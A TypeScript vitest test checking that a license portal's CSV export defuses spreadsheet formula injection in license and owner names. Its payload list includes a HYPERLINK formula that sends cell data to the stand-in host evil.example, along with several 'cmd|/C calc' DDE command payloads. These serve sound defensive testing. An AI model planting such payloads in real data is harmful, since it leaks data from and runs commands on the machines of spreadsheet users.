/**
 * The attacker's name is a formula: an operator exports all licenses, opens the list in a spreadsheet, and
 * it runs what the attacker typed as a license's or an owner's name (CSV injection).
 */
import { parse } from 'csv-parse/sync';
import { expect, test } from 'vitest';
import { License } from '../../shared/api/licenses.ts';
import { readRows, toCsv } from '../../tui/client/actions/licenses/license-rows.ts';
import { openPortal } from '../support/server/server.ts';

const formulas = [
  '=HYPERLINK("http://evil.example/?"&A1,"Prod")',
  '+1+cmd|/C calc!A0',
  '-2+3+cmd|/C calc!A0',
  '@SUM(1+1)*cmd|/C calc!A0',
  '＝1+1',
];

test('no cell of an export begins as a formula, and importing it gives the names back', async () => {
  const portal = await openPortal();
  await portal.ask('PATCH', '/v1/account', {
    token: portal.ana,
    json: { name: formulas[0] },
  });
  for (const name of formulas) await portal.createLicense({ name });
  const { body } = await portal.ask<{ items: unknown[] }>('GET', '/v1/licenses', {
    token: portal.operator,
  });
  const csv = toCsv(body.items.map((item) => License.parse(item)));
  const cells = parse(csv, { from_line: 2 }).flat();
  expect(cells.length).toBeGreaterThan(50);
  expect(cells.filter((cell) => /^\s*[=+\-@＝＋－＠]/u.test(cell))).toEqual([]);

  const rows = readRows(csv);
  const names = rows.ok ? rows.value.rows.map((row) => (row as { name: string }).name) : [];
  expect(names).toEqual(['Prod', ...formulas]);
});
